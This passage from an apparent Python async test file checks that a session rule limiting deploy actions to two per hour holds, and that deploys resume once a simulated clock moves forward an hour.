        replies = [C(deploy={}), C(deploy={}), C(deploy={}), T("a"), C(deploy={}), T("b")]
        session = await start(hub, shop, *replies, rules="limit deploy to 2 per 1h")
        await hub.wait(session)
        assert len(shop.ran) == 2
        await check(hub, session)
        clock.advance(3600)
        await hub.send(session, "again", by="ada")
        await hub.wait(session)
        assert len(shop.ran) == 3
        last = bodies(hub, session, CallDecided)[-1]
        assert [s.transition for s in last.steps][-1] == "do-deploy"
        assert {s.transition for s in last.steps[:-1]} == {"recover"}
        await check(hub, session)
